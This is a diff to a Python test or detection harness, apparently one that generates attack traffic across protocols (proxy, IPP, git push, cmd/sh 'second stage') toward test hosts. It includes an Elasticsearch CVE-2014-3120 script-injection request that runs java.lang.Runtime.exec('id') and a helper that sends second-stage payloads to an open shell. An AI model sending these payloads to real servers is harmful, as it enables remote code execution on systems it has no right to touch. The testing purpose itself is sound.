@@ -5,10 +5,12 @@ from __future__ import annotations
 import base64
 import bz2
 import gzip
+import hashlib
 import io
 import json
 import struct
 import tarfile
+import zlib
 from collections.abc import Callable, Iterator
 from urllib.parse import quote_from_bytes
 
@@ -340,6 +342,56 @@ def jenkins(path: bytes, body: Callable[[bytes], bytes]) -> Callable[[Attack, by
     return bring
 
 
+def proxied(attack: Attack, data: bytes) -> None:
+    attack.table("proxy", host=HOST, port=3128).say(request(b"POST http://192.0.2.9/x", data))
+
+
+def in_java(data: bytes) -> bytes:
+    return b"java.lang.Runtime.getRuntime().exec('id');//" + data
+
+
+def elasticsearch(attack: Attack, data: bytes) -> None:
+    """A script in a search (CVE-2014-3120)."""
+    asked = {"size": 1, "script_fields": {"a": {"script": in_java(data).decode()}}}
+    attack.table("elasticsearch", host=HOST, port=9200).say(request(b"POST /_search", json.dumps(asked).encode()))
+
+
+def ipp(attack: Attack, data: bytes) -> None:
+    from protocols.test_ipp import message as ipp_message
+    from protocols.test_ipp import posted
+
+    attack.table("ipp", host=HOST, port=631).say(posted(ipp_message(2, data=data)))
+
+
+def pack(data: bytes) -> bytes:
+    """A pack of git with one blob (gitformat-pack)."""
+    left, head = len(data) >> 4, bytearray((0x30 | len(data) & 15,))
+    while left:
+        head[-1] |= 0x80
+        head.append(left & 0x7F)
+        left >>= 7
+    whole = b"PACK" + struct.pack(">II", 2, 1) + head + zlib.compress(data)
+    return whole + hashlib.sha1(whole, usedforsecurity=False).digest()
+
+
+def git(attack: Attack, data: bytes) -> None:
+    """A push."""
+    from protocols.test_git import HEAD, NEW, THERE, line
+
+    table = attack.table("git", host=HOST, port=9418)
+    table.say(line(f"git-receive-pack /srv/{THERE}.git\0host=192.0.2.1\0"))
+    table.say(line(f"{HEAD} {NEW} refs/heads/master\0 report-status") + b"0000" + pack(data))
+
+
+def second_stage(room: str) -> Callable[[Attack, bytes], None]:
+    """Code where a shell stands open: what a first stage of two would have read."""
+
+    def bring(attack: Attack, data: bytes) -> None:
+        attack.table(room, host=HOST).say(data)
+
+    return bring
+
+
 # --- mail, messages, printers ---------------------------------------------------------------------------
 
 
@@ -494,6 +546,24 @@ def rows() -> Iterator[Vector]:
     yield Vector("smtp", "DATA", smtp, 64, text_ends=b"\r\n")
     yield Vector("smtp", "DATA, attachment", lambda attack, data: smtp(attack, attached(data)), form=attached)
     yield Vector("imap", "APPEND", imap)
+    yield Vector("proxy", "POST", proxied, 1)
+    yield Vector(
+        "elasticsearch",
+        "a script in a search",
+        elasticsearch,
+        64,
+        65_536,
+        "a body is read up to 256 KiB",
+        text_ends=b"=",
+        form=in_java,
+        broken="nothing",
+    )
+    yield Vector("ipp", "Print-Job", ipp, 1)
+    yield Vector("git", "push", git, form=pack)
+    for room in ("cmd", "sh"):
+        yield Vector(
+            room, "a second stage", second_stage(room), 4095, 1_500_000, "a stage is at most 4 MiB", broken="as it is"
+        )
     small = "what is smaller stands in the events"
     yield Vector("mqtt", "PUBLISH", mqtt(0), 256, why=small)
     yield Vector("mqtt", "PUBLISH, QoS 1", mqtt(1), 256, why=small)
